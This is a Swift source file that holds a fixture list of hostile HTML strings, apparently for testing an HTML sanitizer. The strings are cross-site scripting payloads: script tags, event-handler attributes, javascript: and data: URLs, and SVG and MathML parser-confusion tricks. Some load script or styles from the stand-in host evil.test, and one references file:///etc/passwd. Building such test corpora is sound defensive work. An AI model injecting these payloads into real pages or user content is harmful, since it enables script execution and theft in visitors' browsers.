/// Texts made to run something in a visitor's browser, or to break the page around them.
enum HostileHTML {
  static let samples = scripts + attributes + addresses + foreign + raw + broken + encoded + other

  private static let scripts = [
    "<script>alert(1)</script>x", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>x", "<sCrIpT>alert(1)</ScRiPt>",
    "<scr<script>ipt>alert(1)</script>", "<script>alert('</script >x", "<script>alert(1)",
    "<script/xss src=//evil.test>",
    "<script>alert(1)</script\t\n bar>", "<script\u{0C}>alert(1)</script>", "</script><script>alert(1)</script>",
    "<<script>alert(1)//<</script>", "<\u{0}script>alert(1)</\u{0}script>", "<script type=text/plain>x</script>y",
    "<script><!--<script></script>--><img src=x onerror=alert(1)></script>",
    "<style><!--</style><script>alert(1)</script>-->", "<style>p{background:url(javascript:1)}</style>x",
    "<style>@import'//evil.test';</style>", "<p style=\"width:expression(alert(1))\">x</p>",
    "<link rel=stylesheet href=//evil.test>", "<link rel=import href=//evil.test/x.html>",
  ]

  private static let attributes = [
    "<img src=x onerror=alert(1)>", "<img src=\"https://a.test/x\" onerror=alert(1)>",
    "<p onclick=alert(1) style=x>y</p>",
    "<img src=https://a.test/\"onerror=alert(1)>", "<img src='https://a.test/\"><script>alert(1)</script>'>",
    "<img src=\"https://a.test/&quot;onerror=&quot;alert(1)\">", "<img/src=https://a.test/1.jpg/onload=alert(1)>",
    "<img src=`https://a.test/`onerror=alert(1)>", "<img src=\"https://a.test/a.jpg\nonerror=alert(1)\">",
    "<img srcset=\"https://a.test/1.jpg, javascript:alert(1) 2x\">",
    "<img src=https://a.test/1.jpg srcset=x onload=a()>",
    "<img src=\"https://a.test/1.jpg\" src=\"javascript:alert(1)\">", "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=\"https://a.test/'><script>alert(1)</script>\">", "<b/onmouseover=alert(1)//>x</b>",
    "<p title='><script>alert(1)</script>'>y</p>", "<p title=\"><img src=x onerror=alert(1)>\">y</p>",
    "<p =\"><script>alert(1)</script>\">y</p>", "<b a=\"'\"b='\"'onclick=alert(1)>x</b>",
    "<ul onscroll=a()><li onclick=b()>x",
    "<img data-src=javascript:alert(1) src=https://a.test/blank.gif>",
    "<p contenteditable onfocus=alert(1) autofocus>x</p>",
    "<h3 id=location name=forms>x</h3>", "<p class=modal data-bind=alert(1) v-html=x ng-app {{1+1}}>{{1+1}}</p>",
    "<body onload=alert(1)>x", "<br onclick=alert(1)>", "<p slot=x is=x-p part=y>z</p>",
  ]

  private static let addresses = [
    "<img src='javascript:alert(1)'>", "<img src=' java\u{0A}script:alert(1)'>", "<img src=JaVaScRiPt:alert(1)>",
    "<img src=&#106;&#97;vascript:alert(1)>", "<img src='jav&#x09;ascript:alert(1)'>", "<img src='vbscript:msgbox(1)'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>", "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src=http://a.test/1.jpg>", "<img src=//user:pass@a.test/1.jpg>", "<img src=https://user@a.test/1.jpg>",
    "<img src=https:///a.test>", "<img src='https://a.test\\@evil.test/1.jpg'>", "<img src=https://[::1]/x.jpg>",
    "<img src=https://evil.test#.a.test/1.jpg>", "<img src=https://a.test.evil.test/1.jpg>",
    "<img src='https:a.test/x'>",
    "<img src=https://xn--/1.jpg>", "<img src=https://аpple.test/1.jpg>", "<img src=https&colon;//a.test/1.jpg>",
    "<img src='file:///etc/passwd'>", "<img src='blob:https://a.test/x'>", "<img src=/relative.jpg>", "<img src>",
    "<img>",
    "<a href=javascript:alert(1)>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=//evil.test ping=//evil.test>x</a>", "<area href=javascript:alert(1)><map name=x>y</map>",
    "<base href=https://evil.test/>", "<meta http-equiv=refresh content='0;url=javascript:1'>",
    "<form action=//evil.test><input name=x><button formaction=javascript:alert(1)>go</button></form>",
    "<isindex action=javascript:alert(1) type=image>", "<input type=image src=javascript:alert(1) onerror=alert(1)>",
    "<bgsound src=javascript:alert(1)>", "<table background=javascript:alert(1)><td background=javascript:alert(1)>x",
  ]

  private static let foreign = [
    "<svg onload=alert(1)><p>x</p></svg>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><foreignObject><p>x</p><script>alert(1)</script></foreignObject></svg>",
    "<svg><a xlink:href=javascript:1>x</a>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><use href='data:image/svg+xml,x#y'/></svg>",
    "<svg><desc><b title=\"</desc></svg><img src=x onerror=alert(1)>\">",
    "<svg><svg><title></svg><img src=x onerror=1>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "<math href=javascript:alert(1)>CLICK</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title=\"</style><img src onerror=a()>\">",
    "<svg><![CDATA[><image xlink:href=x onerror=alert(1)>]]></svg>", "<image src=x onerror=alert(1)>",
  ]

  private static let raw = [
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<frameset onload=alert(1)>",
    "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\">",
    "<noembed><p title=\"</noembed><img src=x onerror=1>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noframes></noframes><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><slot onslotchange=alert(1)></template>",
    "<textarea><script>alert(1)</script></textarea>", "<textarea></textarea ><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>", "<title></title/><img src=x onerror=alert(1)>",
    "<xmp><script>alert(1)</script></xmp>", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<plaintext><script>alert(1)</script>", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<object data=javascript:alert(1)></object>", "<object data='data:text/html,<script>alert(1)</script>'>x",
    "<embed src=javascript:alert(1)>", "<applet code=x archive=//evil.test>y", "<portal src=//evil.test>",
    "<select><template></select><img src=x onerror=alert(1)>", "<select><style></select><script>alert(1)</script>",
    "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
    "<video poster=javascript:alert(1)//>",
    "<canvas><script>alert(1)</script>", "<marquee onstart=alert(1)>x</marquee>", "<details open ontoggle=alert(1)>x",
    "<keygen autofocus onfocus=alert(1)>", "<dialog open onclose=alert(1)>x</dialog>", "<x-y onclick=alert(1)>z</x-y>",
  ]

  private static let broken = [
    "<", "<>", "</", "</>", "<p", "<p ", "<p title=\"", "<p title='x", "<img src=\"https://a.test/1.jpg", "<b><b><b>x",
    "</p></ul></b>x", "<b>", "<ul><p><li><ul><b><li>x", "<li>x<li>y", "<p><ul><p></ul></p></p>",
    "<b><p><i></b></p></i>x",
    "<h3><p><h1>x</h3>y</h1>", "<ul><b>x</ul>y</b>", "<ol>x<ul>y</ol>z</ul>", "<li><b></li>x</b>", "<p/><p/>x",
    "<br/></br>",
    "<!-- <script> --><p>x</p>", "<!--><script>alert(1)</script>-->", "<!-- unfinished <p>", "<!--->x", "<!---!><p>y",
    "<!-- --!><script>alert(1)</script>-->", "<!--<!--><img src=x onerror=alert(1)>-->", "<!x><!><?><p>z",
    "<! <p>x</p>",
    "<![CDATA[<script>alert(1)</script>]]>", "<![CDATA[", "<?php echo '<script>' ?>",
    "<?xml-stylesheet href=javascript:1?>",
    "<!DOCTYPE html><html><body onload=alert(1)>x", "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<% alert(1) %><#assign x=1>${7*7}", "</ p onclick=alert(1)>x", "</p onclick='>'>x", "<//script>alert(1)</script>",
    "<p\u{0}title=x>y", "<b\u{B}onclick=alert(1)>x", "<img\u{2028}src=x\u{2029}onerror=alert(1)>",
    "<p\u{A0}onclick=a()>x",
  ]

  private static let encoded = [
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "&#x3c;img src=x onerror=alert(1)&#x3E;",
    "&#0000060script>alert(1)", "&ltscript&gtalert(1)", "&amp;lt;script&amp;gt;", "&#0;&#xD800;&#x110000;&#;&#x;&;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\u{FEFF}<script>alert(1)</script>", "＜script＞alert(1)＜/script＞",
    "<p>\u{0}\u{1}\u{7F}\u{1B}[31mx</p>", "\u{202E}<p>\u{2066}x", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)", "<ſcript>alert(1)</ſcript>", "<İmg src=x onerror=alert(1)>", "<K onclick=a()>x</K>",
    "&NewLine;&Tab;&colon;&lpar;&apos;&quot;&gt;&lt;",
    "<p>&notareference &x;&y &#12345678901234567890123456789012345;</p>",
  ]

  private static let other = [
    "</p></div></main><h1>Sale</h1><main><div><p>x", "<p>x</p></body></html><p>y", "<nav><header><footer>x",
    "<p hidden>x</p><p style=display:none>y</p>", "<input value=\"<script>alert(1)</script>\">",
    "<label for=buy>x</label>",
    "<p>\"><script>alert(1)</script></p>", "'\"--><script>alert(1)</script>", "]]><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "<a name=x><img src=x onerror=alert(1)></a>", "<math><mi//xlink:href=x>y",
    "<table><tr><td><ul><li>x</td></tr></table></li></ul>", "<center><font color=red><blink>x</blink></font></center>",
  ]
}
